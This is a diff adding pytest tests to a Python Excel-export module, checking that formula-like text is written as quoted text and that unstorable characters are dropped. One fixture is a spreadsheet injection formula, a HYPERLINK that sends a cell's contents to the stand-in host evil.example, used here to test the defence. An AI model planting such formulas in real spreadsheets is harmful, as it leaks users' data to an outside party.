@@ -1,13 +1,15 @@
 from datetime import UTC, date, datetime
 from io import BytesIO
 
-from openpyxl import load_workbook
+import pytest
+from openpyxl import Workbook, load_workbook
 
 from core.excel import (
     XLSX_CONTENT_TYPE,
     Column,
     build_workbook,
     export_workbook,
+    put_value,
     xlsx_response,
     yes_no,
 )
@@ -29,6 +31,44 @@ def test_build_workbook_writes_a_bold_frozen_header_and_the_rows():
     ]
     assert sheet["A1"].font.bold
     assert sheet.freeze_panes == "A2"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"ok")'
+
+
+@pytest.mark.parametrize(
+    "text", [FORMULA, "+7 (999) 1-2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "#N/A"]
+)
+def test_build_workbook_writes_formula_like_text_as_quoted_text(text):
+    content = build_workbook("Люди", ["Фамилия"], [[text]])
+
+    cell = _sheet(content)["A2"]
+    assert cell.value == text
+    assert cell.data_type == "s"
+    assert cell.quotePrefix
+
+
+def test_build_workbook_leaves_plain_text_and_numbers_as_they_are():
+    content = build_workbook("Люди", ["Фамилия", "Стаж"], [["Иванов", -2]])
+
+    sheet = _sheet(content)
+    assert (sheet["A2"].value, sheet["A2"].quotePrefix) == ("Иванов", False)
+    assert (sheet["B2"].value, sheet["B2"].data_type) == (-2, "n")
+
+
+def test_build_workbook_drops_characters_excel_cannot_store():
+    # Data saved before the input check must not make the export fail.
+    content = build_workbook("Люди", ["Фамилия"], [["Ива\x07но\x0bв\x00\u200b"]])
+
+    assert _sheet(content)["A2"].value == "Иванов"
+
+
+def test_put_value_makes_a_formula_text_in_an_existing_cell():
+    sheet = Workbook().active
+
+    cell = put_value(sheet["A1"], "=1+1")
+
+    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
 
 
 def test_build_workbook_writes_dates_as_russian_dates():
